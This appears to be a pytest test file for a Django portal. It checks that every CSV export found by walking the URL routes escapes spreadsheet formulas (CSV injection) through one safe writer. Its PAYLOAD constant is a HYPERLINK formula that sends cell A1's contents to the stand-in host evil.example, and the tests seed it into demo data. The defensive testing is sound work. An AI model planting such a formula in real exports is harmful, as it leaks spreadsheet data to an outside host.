"""Every CSV the portal writes neutralises formulas (OWASP "CSV injection").

The exports are found, not listed: every URL whose view offers `export_formats = ("csv",)` and every API view
with a `text/csv` renderer. The demo data is loaded and every free-text field of every row is turned into a
formula, so an export that writes a cell without the one writer shows it raw.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import models
from django.test import Client
from django.urls import URLResolver, get_resolver

from bpo_portal.csv_export import SafeCSVRenderer, SafeWriter, safe_cell
from engagements.models import Engagement

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
REPO = Path(__file__).resolve().parents[2]


def _patterns(patterns=None, prefix=""):
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            yield from _patterns(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern


def _view_class(pattern):
    return getattr(pattern.callback, "view_class", None) or getattr(pattern.callback, "cls", None)


def ui_exports() -> list[str]:
    return sorted(
        {route for route, p in _patterns() if "csv" in (getattr(_view_class(p), "export_formats", None) or ())}
    )


def api_csv_renderers() -> list[tuple[str, type]]:
    found = []
    for route, pattern in _patterns():
        for renderer in getattr(_view_class(pattern), "renderer_classes", ()) or ():
            if "csv" in getattr(renderer, "media_type", ""):
                found.append((route, renderer))
    return found


# --- The writer ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_gets_a_quote(start):
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("number", [Decimal("-12.50"), -3, 4.5, "-12.50", "-7", "0.25"])
def test_numbers_stay_numbers_even_negative_ones(number):
    assert safe_cell(number) == number
    out = io.StringIO()
    SafeWriter(out).writerow([number])
    assert out.getvalue().strip() == str(number)


def test_text_that_only_looks_numeric_at_the_start_is_still_quoted():
    assert safe_cell("-1+2") == "'-1+2"
    assert safe_cell("+15551234567") == "'+15551234567"
    assert safe_cell("Riverside") == "Riverside"
    assert safe_cell(None) == ""


def test_the_api_renderer_writes_through_the_same_rules():
    body = SafeCSVRenderer().render({"results": [{"name": PAYLOAD, "amount": Decimal("-5.00")}]}).decode()
    assert list(csv.reader(io.StringIO(body))) == [["name", "amount"], ["'" + PAYLOAD, "-5.00"]]


def test_every_api_csv_renderer_is_the_safe_one():
    for route, renderer in api_csv_renderers():
        assert issubclass(renderer, SafeCSVRenderer), f"{route} renders CSV with {renderer.__name__}"


def test_no_module_writes_csv_around_the_one_writer():
    """A new export that reaches for `csv.writer` or tablib directly would skip the escaping."""
    # An archive is data the portal reads back (backfill_measurements), not a sheet a person opens: escaping a
    # value there would change it.
    archives = {"slas/management/commands/prune_measurements.py"}
    offenders = []
    for app in ("bpo_portal", "engagements", "slas", "audits", "onboarding"):
        for path in (REPO / app).rglob("*.py"):
            if path.name == "csv_export.py" or "migrations" in path.parts or str(path.relative_to(REPO)) in archives:
                continue
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(|TableExport|tablib|django_tables2\.export", text):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


# --- Every export, with every free-text field turned into a formula ----------------------------------------------


def _poison_free_text() -> None:
    """Prefix every free-text value of the demo's rows with a formula (codes, choices and keys stay as they are)."""
    chosen = [*apps.get_app_config("engagements").get_models(), *apps.get_app_config("slas").get_models()]
    for model in [*chosen, get_user_model()]:
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not f.choices
            and not f.unique
            and f.name not in ("code", "prefix", "password", "username", "timezone", "external_id", "color")
            and not f.name.endswith(("_hash", "_key", "email", "phone", "url"))
        ]
        if not fields:
            continue
        for row in model._base_manager.all():
            changed = False
            for f in fields:
                value = getattr(row, f.name)
                if isinstance(value, str) and value:
                    setattr(row, f.name, (PAYLOAD + " " + value)[: f.max_length or None])
                    changed = True
            if changed:
                model._base_manager.filter(pk=row.pk).update(**{f.name: getattr(row, f.name) for f in fields})


@pytest.fixture
def poisoned_demo(db):
    call_command("seed_demo", stdout=io.StringIO())
    _poison_free_text()


def _cells(response) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]


def test_exports_are_found_so_a_new_one_cannot_be_missed():
    assert len(ui_exports()) >= 15
    assert "engagements/" in ui_exports() and "certifications/" in ui_exports()


def test_every_ui_export_neutralises_formulas(poisoned_demo):
    """Every export found, on one poisoned demo (seeding it is the costly part): each route's problems together."""
    client = Client()
    client.force_login(get_user_model().objects.filter(is_superuser=True).first())
    engagement = Engagement.objects.filter(contract__isnull=False).order_by("pk").first()
    problems = []
    for route in ui_exports():
        url = "/" + route.replace("<int:pk>", str(engagement.pk)) + "?_export=csv"
        response = client.get(url)
        if response.status_code != 200 or not response["Content-Type"].startswith("text/csv"):
            problems.append(f"{url}: {response.status_code} {response.get('Content-Type')}")
            continue
        raw = [c for c in _cells(response) if c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(c)]
        if raw:
            problems.append(f"{url} wrote formula cells: {raw[:3]}")
    assert problems == []
